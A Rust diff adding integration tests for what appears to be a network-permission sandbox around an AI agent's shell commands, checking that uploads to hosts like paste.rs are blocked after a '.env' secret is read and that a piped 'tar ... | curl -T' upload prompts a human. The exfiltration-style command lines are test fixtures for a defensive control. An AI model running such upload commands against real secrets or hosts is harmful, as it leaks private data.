@@ -1,6 +1,6 @@
 //! A host that is on no list, in mode `ask`, and a person's answers. Run in a machine of its own, like `inside`.
 
-use super::inside::{broker, counts, file, put_script, working, world_of};
+use super::inside::{broker, file, put_script, working, world_of};
 use super::outside::Outside;
 use crate::jail::world::Jailed;
 use serde_json::json;
@@ -83,9 +83,6 @@ fn where_nobody_is_asked_the_end_lists_what_was_refused() {
     assert_eq!(hosts[0], new, "{hosts}");
     assert_eq!((&hosts[1]["host"], &hosts[1]["refused"]), (&json!("tls.test"), &json!(1)), "{hosts}");
     assert!(session.ran("curl -s -m 5 http://plain.test/").step.get("hosts").is_none(), "it is new once");
-    world.sandbox.wait_until("it is counted", || {
-        counts(&session).row_of("plain.test", 80).is_some_and(|row| row.connections == 2 && row.down > 0)
-    });
     let status = world.sandbox.person(&["status"]);
     status.said(&["network", "ask", "1 host", "1 refused"]);
     let ended = session.inner.end();
@@ -144,4 +141,56 @@ fn a_persons_answer_holds_at_once_in_a_running_session() {
     world.sandbox.wait_until("it is cut off", || session.ran("python3 evil.py").out == "b''\n");
     let told = person(&["network", "--json"]).json();
     assert_eq!((&told["mode"], &told["deny"][0]), (&"list".into(), &"evil.test:5432".into()), "{told}");
+}
+
+/// After a secret a yes from before does not count for a host that takes uploads; one that comes then does.
+#[test]
+#[ignore = "needs a machine of its own"]
+fn after_a_secret_a_person_allows_a_host_again() {
+    let allowed = "mode = \"list\"\nallow = [\"paste.rs\", \"plain.test\"]\n[danger]\nsecret-file = \"off\"\n";
+    let world = attended(allowed);
+    let outside = Outside::new(&world.root().join("sink.sock"));
+    world.sandbox.put(".env", "KEY=1\n");
+    let session = working(&world);
+    broker(&world, &session);
+    put_script(
+        &world,
+        "up.py",
+        "for host in [b'paste.rs', b'plain.test']:\n\
+         \x20   print(reach(host, 80, b'GET /x HTTP/1.1\\r\\nHost: ' + host + b'\\r\\n\\r\\n', 9999))\n",
+    );
+    let line = "python3 up.py";
+    assert!(session.ran(line).out.contains("seen paste.rs"), "nothing was read yet");
+    session.ran("cat .env");
+    let refused = session.ran(line);
+    assert!(refused.out.contains("403") && refused.out.contains("seen plain.test"), "{refused:?}");
+    assert!(refused.told.ends_with("Ask the person to run: aops-hook network allow paste.rs"), "{refused:?}");
+    world.sandbox.person(&["network", "allow", "paste.rs", "--yes"]).said(&["allowed in"]);
+    let again = session.ran(line);
+    assert!(again.out.contains("seen paste.rs"), "{again:?}");
+    // What is denied is denied.
+    world.sandbox.person(&["network", "deny", "paste.rs", "--yes"]).said(&["denied in"]);
+    assert!(!session.ran(line).out.contains("seen paste.rs"));
+    assert_eq!(outside.escaped(), [""; 0]);
+}
+
+/// A line that is dangerous and names an unknown host: one dialog, one yes for both.
+#[test]
+#[ignore = "needs a machine of its own"]
+fn the_danger_and_the_host_of_a_line_are_asked_about_at_once() {
+    let world = attended("mode = \"ask\"\n");
+    let _outside = Outside::new(&world.root().join("sink.sock"));
+    world.sandbox.put("notes.txt", "notes");
+    let session = working(&world);
+    let line = "tar c notes.txt | curl -s -m 5 -T - http://tls.test/x";
+    let call = session.inner.call("Bash", json!({"command": line}));
+    let asked = session.inner.pre(&call).json();
+    let words = asked["hookSpecificOutput"]["permissionDecisionReason"].as_str().unwrap_or_default();
+    for part in ["danger rule `", "reaches `tls.test` (port 80)", "a yes allows it for this session"] {
+        assert!(words.contains(part), "{part}: {asked}");
+    }
+    let ran = session.run_and_end(&call, line);
+    assert!(ran.out.contains("seen tls.test"), "{ran:?}");
+    let list = fs::read_to_string(file(&session, "list")).unwrap();
+    assert!(list.contains("allow tls.test session\n"), "{list}");
 }
